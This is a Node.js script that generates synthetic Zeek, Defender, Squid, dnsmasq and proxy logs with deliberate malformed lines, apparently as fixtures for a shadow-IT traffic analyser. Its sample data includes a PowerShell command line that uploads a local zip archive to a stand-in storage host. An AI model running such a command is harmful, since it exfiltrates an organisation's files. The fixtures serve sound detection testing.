// Write the synthetic sample logs (formats no program on this machine can write, and logs that
// span several days, several users and devices): node samples/traffic/synthesize.mjs
// Deterministic: a fixed seed, fixed dates (2026-11-20 .. 2026-11-24), no clock, no network.
// Each file gets a few deliberately malformed lines at fixed places (see README.md).
import { writeFileSync, mkdirSync } from "node:fs";
import { gzipSync } from "node:zlib";
import { dirname, join } from "node:path";
import { fileURLToPath } from "node:url";

const HERE = dirname(fileURLToPath(import.meta.url));

let seed = 0x5a17c0de;
function rnd() {
  // mulberry32
  seed = (seed + 0x6d2b79f5) | 0;
  let t = seed;
  t = Math.imul(t ^ (t >>> 15), t | 1);
  t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
  return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
}
const pick = (xs) => xs[Math.floor(rnd() * xs.length)];
const int = (lo, hi) => lo + Math.floor(rnd() * (hi - lo + 1));
const hex = (n) => Array.from({ length: n }, () => "0123456789abcdef"[int(0, 15)]).join("");
const b62 = (n) => Array.from({ length: n }, () => "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"[int(0, 61)]).join("");

// [host, ip, weight, kind] — kind: storage (big uploads), media (big downloads), web
const APPS = [
  ["www.dropbox.com", "162.125.1.18", 8, "storage"],
  ["dl.dropboxusercontent.com", "162.125.6.15", 3, "media"],
  ["www.filedropper.com", "104.21.48.10", 2, "storage"],
  ["www.box.com", "74.112.186.144", 3, "web"],
  ["app.box.com", "74.112.186.128", 4, "storage"],
  ["slack.com", "52.85.151.20", 8, "web"],
  ["files.slack.com", "52.85.151.61", 3, "storage"],
  ["zoom.us", "170.114.52.2", 4, "web"],
  ["us02web.zoom.us", "170.114.10.85", 3, "media"],
  ["discord.com", "162.159.135.232", 3, "web"],
  ["cdn.discordapp.com", "162.159.129.233", 2, "media"],
  ["apps.apple.com", "17.253.83.205", 2, "web"],
  ["itunes.apple.com", "17.253.83.201", 3, "media"],
  ["www.msn.com", "204.79.197.203", 4, "web"],
  ["mail.yahoo.com", "87.248.119.251", 3, "web"],
  ["news.sohu.com", "123.126.104.68", 2, "web"],
  ["www.facebook.com", "157.240.241.35", 6, "web"],
  ["twitter.com", "104.244.42.65", 4, "web"],
  ["torrentz.cl", "172.67.164.22", 1, "media"],
  ["teams.microsoft.com", "52.113.194.132", 8, "web"],
  ["drive.google.com", "142.250.185.78", 5, "storage"],
  ["files.contosodrive.com", "20.50.2.10", 2, "storage"],
  ["cdn.unknown-cdn.net", "198.51.100.23", 2, "media"],
  ["upload.mysterystorage.io", "203.0.113.50", 1, "storage"],
  ["api.weird-analytics.biz", "192.0.2.77", 2, "web"],
  ["www.obscure-forum.net", "198.51.100.99", 1, "web"],
  ["intranet.contoso.com", "10.1.0.5", 4, "web"],
];
const TOTAL_WEIGHT = APPS.reduce((s, a) => s + a[2], 0);
function app() {
  let r = rnd() * TOTAL_WEIGHT;
  for (const a of APPS) if ((r -= a[2]) < 0) return a;
  return APPS[0];
}
function bytes(kind) {
  const up = kind === "storage" && rnd() < 0.35 ? int(200_000, 60_000_000) : int(300, 9_000);
  const down = kind === "media" ? int(500_000, 80_000_000) : int(2_000, 400_000);
  return [up, down];
}

// [device, user (upn), account, ip, deviceId]
const PEOPLE = [
  ["MKT-LT-0142", "dana@contoso.com", "dana", "10.20.1.42"],
  ["MKT-LT-0178", "frank@contoso.com", "frank", "10.20.1.78"],
  ["MKT-DT-0033", "gina@contoso.com", "gina", "10.20.1.33"],
  ["FIN-LT-0207", "ann@contoso.com", "ann", "10.20.2.7"],
  ["ENG-WS-1101", "bob@contoso.com", "bob", "10.20.3.101"],
  ["ENG-LT-1145", "chen@contoso.com", "chen", "10.20.3.145"],
  ["HR-LT-0301", "eve@contoso.com", "eve", "10.20.4.1"],
  ["W10-PILOT-0001", "henry@contoso.com", "henry", "10.20.9.1"],
].map((p) => [...p, hex(40)]);
const BUILD = ["BLD-SRV-07", undefined, "system", "10.30.0.7", hex(40)];

const DAY0 = Date.UTC(2026, 10, 20); // 2026-11-20
/** n event times over five working days, sorted. */
function times(n) {
  const out = [];
  for (let i = 0; i < n; i++) out.push(DAY0 + int(0, 4) * 86_400_000 + int(7 * 3600, 18 * 3600) * 1000 + int(0, 999));
  return out.sort((a, b) => a - b);
}
const iso7 = (t) => new Date(t).toISOString().replace(/\.(\d{3})Z$/, (_, ms) => `.${ms}${int(0, 9999).toString().padStart(4, "0")}Z`);
const epoch = (t, digits) => (t / 1000).toFixed(digits);
const write = (name, text) => {
  mkdirSync(dirname(join(HERE, name)), { recursive: true });
  writeFileSync(join(HERE, name), text);
};
const writeGz = (name, text) => {
  mkdirSync(dirname(join(HERE, name)), { recursive: true });
  writeFileSync(join(HERE, name), gzipSync(Buffer.from(text), { level: 9 }));
};
/** Put `bad` lines at the given 0-based positions of `lines` (after any header lines). */
function insertAt(lines, inserts) {
  for (const [pos, text] of [...inserts].sort((a, b) => b[0] - a[0])) lines.splice(pos, 0, text);
  return lines;
}

// ---------------------------------------------------------------------------------- Zeek TSV
function zeekTsv(path, fields, types, rows, open, close) {
  return [
    "#separator \\x09",
    "#set_separator\t,",
    "#empty_field\t(empty)",
    "#unset_field\t-",
    `#path\t${path}`,
    `#open\t${open}`,
    "#fields\t" + fields.join("\t"),
    "#types\t" + types.join("\t"),
    ...rows,
    `#close\t${close}`,
  ];
}
const uid = () => "C" + b62(17);
const eport = () => int(49152, 65535);
const zopen = "2026-11-20-07-00-00";
const zclose = "2026-11-25-00-00-00";

function zeekDns() {
  const fields = "ts uid id.orig_h id.orig_p id.resp_h id.resp_p proto trans_id rtt query qclass qclass_name qtype qtype_name rcode rcode_name AA TC RD RA Z answers TTLs rejected".split(" ");
  const types = "time string addr port addr port enum count interval string count string count string count string bool bool bool bool count vector[string] vector[interval] bool".split(" ");
  const rows = times(200).map((t) => {
    const p = pick(PEOPLE);
    const [host, ip] = app();
    const qt = rnd() < 0.8 ? ["1", "A"] : rnd() < 0.5 ? ["28", "AAAA"] : ["65", "HTTPS"];
    const nx = host === "torrentz.cl" && rnd() < 0.5;
    const rcode = nx ? ["3", "NXDOMAIN"] : ["0", "NOERROR"];
    const answers = nx || qt[1] !== "A" ? "-" : ip;
    return [epoch(t, 6), uid(), p[3], eport(), "10.1.0.53", 53, "udp", int(1, 65535), (rnd() / 50).toFixed(6), host, 1, "C_INTERNET", qt[0], qt[1], rcode[0], rcode[1], "F", "F", "T", "T", 0, answers, answers === "-" ? "-" : "300.000000", "F"].join("\t");
  });
  const lines = zeekTsv("dns", fields, types, rows, zopen, zclose);
  // line 20: cut short (a record that lost its tail); line 41: a ts that is not a number
  insertAt(lines, [
    [19, rows[10].split("\t").slice(0, 9).join("\t")],
    [40, "17637X0.000000\t" + rows[11].split("\t").slice(1).join("\t")],
  ]);
  write("zeek/dns.log", lines.join("\n") + "\n");
}

function zeekHttp() {
  const fields = "ts uid id.orig_h id.orig_p id.resp_h id.resp_p trans_depth method host uri referrer version user_agent origin request_body_len response_body_len status_code status_msg info_code info_msg tags username password proxied orig_fuids orig_filenames orig_mime_types resp_fuids resp_filenames resp_mime_types".split(" ");
  const types = "time string addr port addr port count string string string string string string string count count count string count string set[enum] string string set[string] vector[string] vector[string] vector[string] vector[string] vector[string] vector[string]".split(" ");
  const rows = times(120).map((t, i) => {
    const p = pick(PEOPLE);
    const [host, ip, , kind] = app();
    const [up, down] = bytes(kind);
    const post = up > 10_000;
    const hostField = i % 17 === 5 ? `${host}:8080` : host;
    const uri = post ? "/upload?session=" + b62(8) : pick(["/", "/index.html", "/api/v1/items?page=2", "/static/app.js", "/files/report%20Q4.xlsx"]);
    const status = host === "torrentz.cl" ? ["403", "Forbidden"] : post ? ["201", "Created"] : ["200", "OK"];
    const user = i % 9 === 0 ? p[2] : "-";
    return [epoch(t, 6), uid(), p[3], eport(), ip, i % 17 === 5 ? 8080 : 80, 1, post ? "POST" : "GET", hostField, uri, "-", "1.1", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36", "-", post ? up : 0, down, status[0], status[1], "-", "-", "(empty)", user, "-", "-", "-", "-", "-", "F" + b62(16), "-", post ? "application/json" : "text/html"].join("\t");
  });
  // one request by IP only (no Host header): host unset
  rows.splice(60, 0, [epoch(DAY0 + 2 * 86_400_000 + 36_000_000, 6), uid(), "10.20.3.101", eport(), "198.51.100.23", 80, 1, "GET", "-", "/", "-", "1.0", "curl/8.5.0", "-", 0, 612, "200", "OK", "-", "-", "(empty)", "-", "-", "-", "-", "-", "-", "F" + b62(16), "-", "text/html"].join("\t"));
  const lines = zeekTsv("http", fields, types, rows, zopen, zclose);
  // line 31: a response_body_len that is not a count
  const bad = rows[20].split("\t");
  bad[15] = "lots";
  insertAt(lines, [[30, bad.join("\t")]]);
  write("zeek/http.log", lines.join("\n") + "\n");
}

function zeekSsl() {
  const fields = "ts uid id.orig_h id.orig_p id.resp_h id.resp_p version cipher curve server_name resumed last_alert next_protocol established ssl_history cert_chain_fps client_cert_chain_fps sni_matches_cert".split(" ");
  const types = "time string addr port addr port string string string string bool string string bool string vector[string] vector[string] bool".split(" ");
  const rows = times(200).map((t, i) => {
    const p = pick(PEOPLE);
    const [host, ip] = app();
    const sni = i % 23 === 7 ? "-" : host; // some clients send no SNI
    return [epoch(t, 6), uid(), p[3], eport(), ip, 443, "TLSv13", "TLS_AES_128_GCM_SHA256", "x25519", sni, "F", "-", "h2", "T", "CsiI", "(empty)", "(empty)", sni === "-" ? "-" : "T"].join("\t");
  });
  write("zeek/ssl.log", zeekTsv("ssl", fields, types, rows, zopen, zclose).join("\n") + "\n");
}

function zeekConn() {
  const fields = "ts uid id.orig_h id.orig_p id.resp_h id.resp_p proto service duration orig_bytes resp_bytes conn_state local_orig local_resp missed_bytes history orig_pkts orig_ip_bytes resp_pkts resp_ip_bytes tunnel_parents".split(" ");
  const types = "time string addr port addr port enum string interval count count string bool bool count string count count count count set[string]".split(" ");
  const rows = times(220).map((t) => {
    const p = rnd() < 0.1 ? BUILD : pick(PEOPLE);
    const [, ip, , kind] = app();
    const failed = rnd() < 0.05;
    const [up, down] = failed ? [0, 0] : bytes(kind);
    return [epoch(t, 6), uid(), p[3], eport(), ip, 443, "tcp", failed ? "-" : "ssl", failed ? "3.000128" : (rnd() * 90).toFixed(6), failed ? "-" : up, failed ? "-" : down, failed ? "S0" : "SF", "T", "F", 0, failed ? "S" : "ShADadFf", int(3, 900), up + 2000, int(3, 900), down + 2000, "-"].join("\t");
  });
  writeGz("zeek/conn.log.gz", zeekTsv("conn", fields, types, rows, zopen, zclose).join("\n") + "\n");
}

// --------------------------------------------------------------------------------- Zeek JSON
function zeekJson() {
  const lines = times(150).map((t, i) => {
    const p = pick(PEOPLE);
    const [host, ip] = app();
    const o = { ts: Number(epoch(t, 6)), uid: uid(), "id.orig_h": p[3], "id.orig_p": eport(), "id.resp_h": ip, "id.resp_p": 443, version: "TLSv13", cipher: "TLS_AES_256_GCM_SHA384", curve: "x25519" };
    if (i % 19 !== 4) o.server_name = host;
    Object.assign(o, { resumed: false, next_protocol: "h2", established: true, ssl_history: "CsiI", sni_matches_cert: true });
    return JSON.stringify(o);
  });
  // line 50: a record cut in the middle (the writer died); line 90: not JSON at all
  insertAt(lines, [
    [49, lines[48].slice(0, 70)],
    [89, "zeek: logging paused, disk full"],
  ]);
  write("zeek/ssl.json", lines.join("\n") + "\n");
}

// ---------------------------------------------------------------- Defender DeviceNetworkEvents
const MDE_COLUMNS = "Timestamp,DeviceId,DeviceName,ActionType,RemoteIP,RemotePort,RemoteUrl,LocalIP,LocalPort,Protocol,LocalIPType,RemoteIPType,InitiatingProcessSHA1,InitiatingProcessSHA256,InitiatingProcessMD5,InitiatingProcessFileName,InitiatingProcessFileSize,InitiatingProcessVersionInfoCompanyName,InitiatingProcessVersionInfoProductName,InitiatingProcessVersionInfoProductVersion,InitiatingProcessVersionInfoInternalFileName,InitiatingProcessVersionInfoOriginalFileName,InitiatingProcessVersionInfoFileDescription,InitiatingProcessId,InitiatingProcessCommandLine,InitiatingProcessCreationTime,InitiatingProcessFolderPath,InitiatingProcessParentFileName,InitiatingProcessParentId,InitiatingProcessParentCreationTime,InitiatingProcessAccountDomain,InitiatingProcessAccountName,InitiatingProcessAccountSid,InitiatingProcessAccountUpn,InitiatingProcessAccountObjectId,InitiatingProcessIntegrityLevel,InitiatingProcessTokenElevation,ReportId,AppGuardContainerId,AdditionalFields".split(",");
const PROCS = [
  ["msedge.exe", "Microsoft Corporation", "Microsoft Edge", "131.0.2903.70", 'C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe', '"msedge.exe" --type=utility --utility-sub-type=network.mojom.NetworkService --lang=en-US --service-sandbox-type=none'],
  ["chrome.exe", "Google LLC", "Google Chrome", "131.0.6778.86", 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe', '"chrome.exe" --type=utility --utility-sub-type=network.mojom.NetworkService --lang=en-US'],
  ["Dropbox.exe", "Dropbox, Inc.", "Dropbox", "213.4.6105", 'C:\\Program Files (x86)\\Dropbox\\Client\\Dropbox.exe', '"C:\\Program Files (x86)\\Dropbox\\Client\\Dropbox.exe" /systemstartup'],
  ["ms-teams.exe", "Microsoft Corporation", "Microsoft Teams", "24295.605.3225.8804", 'C:\\Program Files\\WindowsApps\\MSTeams_24295.605.3225.8804_x64__8wekyb3d8bbwe\\ms-teams.exe', '"ms-teams.exe" msteams:system-initiated'],
  ["Zoom.exe", "Zoom Video Communications, Inc.", "Zoom", "6.2.11", 'C:\\Users\\Public\\Zoom\\bin\\Zoom.exe', '"Zoom.exe" "--url=zoommtg://zoom.us/join?action=join&confno=123456789"'],
  ["powershell.exe", "Microsoft Corporation", "Microsoft® Windows® Operating System", "10.0.22621.4391", 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', 'powershell.exe -NoProfile -Command "Invoke-WebRequest -Uri https://upload.mysterystorage.io/u -Method Put -InFile C:\\Temp\\q4.zip"'],
];
function mdeEvent(t, i) {
  const p = rnd() < 0.06 ? BUILD : pick(PEOPLE);
  const [host, ip] = app();
  const proc = host === "www.dropbox.com" && rnd() < 0.5 ? PROCS[2] : host === "teams.microsoft.com" ? PROCS[3] : host.endsWith("zoom.us") ? PROCS[4] : host === "upload.mysterystorage.io" ? PROCS[5] : pick(PROCS.slice(0, 2));
  const action = rnd() < 0.06 ? "ConnectionFailed" : rnd() < 0.2 ? pick(["HttpConnectionInspected", "SslConnectionInspected"]) : "ConnectionSuccess";
  const form = i % 5;
  // RemoteUrl: bare host (most), full URL (inspected HTTP), empty (plain connections)
  const url = action === "HttpConnectionInspected" ? `http://${host}/` : form === 3 ? "" : host;
  const procId = int(1000, 30000);
  const e = {
    Timestamp: iso7(t),
    DeviceId: p[4],
    DeviceName: p[0].toLowerCase() + ".contoso.com",
    ActionType: action,
    RemoteIP: ip,
    RemotePort: action === "HttpConnectionInspected" ? 80 : 443,
    RemoteUrl: url,
    LocalIP: p[3],
    LocalPort: eport(),
    Protocol: "Tcp",
    LocalIPType: "Private",
    RemoteIPType: ip.startsWith("10.") ? "Private" : "Public",
    InitiatingProcessSHA1: hex(40),
    InitiatingProcessSHA256: hex(64),
    InitiatingProcessMD5: hex(32),
    InitiatingProcessFileName: proc[0],
    InitiatingProcessFileSize: int(300_000, 9_000_000),
    InitiatingProcessVersionInfoCompanyName: proc[1],
    InitiatingProcessVersionInfoProductName: proc[2],
    InitiatingProcessVersionInfoProductVersion: proc[3],
    InitiatingProcessVersionInfoInternalFileName: proc[0].replace(/\.exe$/, "_exe"),
    InitiatingProcessVersionInfoOriginalFileName: proc[0],
    InitiatingProcessVersionInfoFileDescription: proc[2],
    InitiatingProcessId: procId,
    InitiatingProcessCommandLine: proc[5],
    InitiatingProcessCreationTime: iso7(t - int(60_000, 7_200_000)),
    InitiatingProcessFolderPath: proc[4].toLowerCase(),
    InitiatingProcessParentFileName: "explorer.exe",
    InitiatingProcessParentId: int(1000, 9000),
    InitiatingProcessParentCreationTime: iso7(t - 8 * 3_600_000),
    InitiatingProcessAccountDomain: p === BUILD ? "nt authority" : "contoso",
    InitiatingProcessAccountName: p[2],
    InitiatingProcessAccountSid: p === BUILD ? "S-1-5-18" : `S-1-5-21-1004336348-1177238915-682003330-${int(1100, 9999)}`,
    InitiatingProcessAccountUpn: p[1] ?? "",
    InitiatingProcessAccountObjectId: p[1] ? `${hex(8)}-${hex(4)}-${hex(4)}-${hex(4)}-${hex(12)}` : "",
    InitiatingProcessIntegrityLevel: p === BUILD ? "System" : "Medium",
    InitiatingProcessTokenElevation: "TokenElevationTypeDefault",
    ReportId: int(1000, 90000),
    AppGuardContainerId: "",
    AdditionalFields: action === "HttpConnectionInspected" ? JSON.stringify({ direction: "Out", host, method: "GET", status_code: "200", uri: "/", user_agent: "Mozilla/5.0" }) : "",
  };
  return e;
}
const csvField = (v) => {
  const s = v === undefined || v === null ? "" : String(v);
  return /[",\n\r]/.test(s) ? `"${s.replace(/"/g, '""')}"` : s;
};
const csvRow = (e) => MDE_COLUMNS.map((c) => csvField(e[c])).join(",");

function mdeCsv() {
  const events = times(240).map(mdeEvent);
  // a listening socket (not traffic: skipped)
  events.splice(30, 0, { ...events[30], ActionType: "ListeningConnectionCreated", RemoteIP: "::", RemotePort: 0, RemoteUrl: "", LocalPort: 5357 });
  // a PowerShell command line with a line break inside a quoted field (one record, two lines)
  events.splice(60, 0, { ...events[60], InitiatingProcessFileName: "powershell.exe", InitiatingProcessCommandLine: 'powershell.exe -Command "$r = Invoke-WebRequest https://www.filedropper.com/upload;\n$r.StatusCode"', RemoteUrl: "www.filedropper.com", RemoteIP: "104.21.48.10" });
  const lines = ["\ufeff" + MDE_COLUMNS.join(","), ...events.map(csvRow)];
  // malformed: a row missing its last columns (line 101), a bad Timestamp (line 151),
  // a row with neither RemoteUrl nor RemoteIP (line 201)
  const short = csvRow(events[98]).split(",").slice(0, 12).join(",");
  const badTime = csvRow({ ...events[148], Timestamp: "yesterday 10:00" });
  const noDest = csvRow({ ...events[198], RemoteUrl: "", RemoteIP: "", ActionType: "ConnectionFailed" });
  insertAt(lines, [
    [100, short],
    [150, badTime],
    [200, noDest],
  ]);
  write("mde/DeviceNetworkEvents.csv", lines.join("\r\n") + "\r\n");
}

function mdeJson() {
  const events = times(40).map(mdeEvent);
  events[10] = { ...events[10], Timestamp: "2026-11-31T10:00:00Z" }; // element 11: no such day
  events[20] = { ...events[20], RemoteUrl: "http://bad host name/" }; // element 21: invalid RemoteUrl
  write("mde/DeviceNetworkEvents.json", JSON.stringify(events, null, 2) + "\n");
  const more = times(200).map(mdeEvent);
  writeGz("mde/DeviceNetworkEvents-compact.json.gz", JSON.stringify(more));
  // one object per line (Streaming API to Event Hub / storage: records wrapped in "properties"),
  // the last line cut off in the middle (the export was interrupted)
  const stream = times(120).map((t, i) => {
    const e = mdeEvent(t, i);
    return JSON.stringify({ time: e.Timestamp, tenantId: "8c5b320a-0000-4000-8000-1f893cd0a0b1", operationName: "Publish", category: "AdvancedHunting-DeviceNetworkEvents", properties: e });
  });
  const last = stream.pop();
  write("mde/DeviceNetworkEvents-stream.ndjson", stream.join("\n") + "\n" + last.slice(0, 300));
}

// ---------------------------------------------------------------------- Squid over five days
function squidWeek() {
  const lines = times(300).map((t) => {
    const p = pick(PEOPLE);
    const [host, ip, , kind] = app();
    const [, down] = bytes(kind);
    const https = rnd() < 0.7;
    const denied = host === "torrentz.cl" || host === "www.filedropper.com";
    const code = denied ? "TCP_DENIED/403" : https ? "TCP_TUNNEL/200" : pick(["TCP_MISS/200", "TCP_MISS/200", "TCP_REFRESH_UNMODIFIED/304", "TCP_MEM_HIT/200"]);
    const elapsed = String(int(1, https ? 120_000 : 900)).padStart(6, " ");
    const url = https ? `${host}:443` : `http://${host}/${pick(["", "index.html", "api/v2/items", "dl/file.bin"])}`;
    const method = https ? "CONNECT" : "GET";
    const hier = denied ? "HIER_NONE/-" : code.includes("HIT") ? "HIER_NONE/-" : `HIER_DIRECT/${ip}`;
    const type = https ? "-" : denied ? "text/html" : "text/html";
    return `${epoch(t, 3)} ${elapsed} ${p[3]} ${code} ${denied ? 3900 : down} ${method} ${url} ${p[2]} ${hier} ${type}`;
  });
  // malformed: a line cut after the client (line 77), a byte count that is not a number (line 154),
  // a line of binary junk from a disk error (line 230)
  insertAt(lines, [
    [76, lines[75].split(" ").filter(Boolean).slice(0, 3).join(" ")],
    [153, lines[152].replace(/ (TCP_\S+) \d+ /, " $1 12k ")],
    [229, "\u0007\u0001\u007f\u0003 garbage"],
  ]);
  writeGz("squid-native-week.log.gz", lines.join("\n") + "\n");
}

// ------------------------------------------------------------- dnsmasq through syslog, 5 days
function dnsmasqSyslog() {
  const MON = ["Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"];
  const stamp = (t) => {
    const d = new Date(t);
    const pad = (n) => String(n).padStart(2, "0");
    return `${MON[d.getUTCMonth()]} ${String(d.getUTCDate()).padStart(2, " ")} ${pad(d.getUTCHours())}:${pad(d.getUTCMinutes())}:${pad(d.getUTCSeconds())}`;
  };
  const lines = [];
  let serial = 100;
  for (const t of times(150)) {
    const p = pick(PEOPLE);
    const [host, ip] = app();
    const port = eport();
    const s = serial++;
    const pid = 811;
    lines.push(`${stamp(t)} gw01 dnsmasq[${pid}]: ${s} ${p[3]}/${port} query[A] ${host} from ${p[3]}`);
    if (host === "torrentz.cl") lines.push(`${stamp(t)} gw01 dnsmasq[${pid}]: ${s} ${p[3]}/${port} config ${host} is NXDOMAIN`);
    else if (rnd() < 0.4) lines.push(`${stamp(t)} gw01 dnsmasq[${pid}]: ${s} ${p[3]}/${port} cached ${host} is ${ip}`);
    else {
      lines.push(`${stamp(t)} gw01 dnsmasq[${pid}]: ${s} ${p[3]}/${port} forwarded ${host} to 10.1.0.1`);
      lines.push(`${stamp(t + 12)} gw01 dnsmasq[${pid}]: ${s} ${p[3]}/${port} reply ${host} is ${ip}`);
    }
  }
  // a DHCP line from the same daemon (skipped), a line from another program mixed into the
  // file (rejected), a line whose date is not a date (rejected)
  insertAt(lines, [
    [10, `Nov 20 08:02:11 gw01 dnsmasq-dhcp[811]: DHCPACK(eth1) 10.20.1.42 3c:52:82:aa:10:42 MKT-LT-0142`],
    [120, `Nov 21 09:14:02 gw01 sshd[2211]: Accepted publickey for admin from 10.20.9.1 port 52144 ssh2`],
    [200, `Nvm 22 10:00:00 gw01 dnsmasq[811]: query[A] www.dropbox.com from 10.20.2.7`],
  ]);
  write("dnsmasq-syslog.log", lines.join("\n") + "\n");
}

// ------------------------------------------------------------------------------ generic CSV
function genericCsv() {
  const rows = times(120).map((t) => {
    const p = pick(PEOPLE);
    const [host, ip, , kind] = app();
    const [up, down] = bytes(kind);
    const blocked = host === "torrentz.cl";
    const url = `https://${host}/${pick(["", "login", "api/files/upload", "watch?v=" + b62(6)])}`;
    return [new Date(t).toISOString(), p[1], p[0], p[3], host, ip, url, up, down, blocked ? "blocked" : "allowed"].map(csvField).join(",");
  });
  const lines = ["time,user,device,src_ip,host,dst_ip,url,bytes_sent,bytes_received,action", ...rows];
  // line 60: negative byte count; line 90: no host, url or IP
  insertAt(lines, [
    [59, rows[58].replace(/,(\d+),(\d+),(allowed|blocked)$/, ",-5,$2,$3")],
    [89, `${new Date(DAY0 + 3 * 86_400_000 + 40_000_000).toISOString()},ann@contoso.com,FIN-LT-0207,10.20.2.7,,,,0,0,allowed`],
  ]);
  write("proxy-export.csv", lines.join("\n") + "\n");

  // a gateway export with its own column names, epoch seconds and ';' — needs a CsvMapping
  const gw = times(60).map((t) => {
    const p = pick(PEOPLE);
    const [host, , , kind] = app();
    const [up, down] = bytes(kind);
    return [epoch(t, 0), p[2], p[3], host, up, down, host === "torrentz.cl" ? "DENY" : "PERMIT"].join(";");
  });
  write("gateway-export.csv", ["Start;Login;Client;Destination;Out;In;Verdict", ...gw].join("\n") + "\n");
}

zeekDns();
zeekHttp();
zeekSsl();
zeekConn();
zeekJson();
mdeCsv();
mdeJson();
squidWeek();
dnsmasqSyslog();
genericCsv();
console.log("synthetic sample logs written to", HERE);
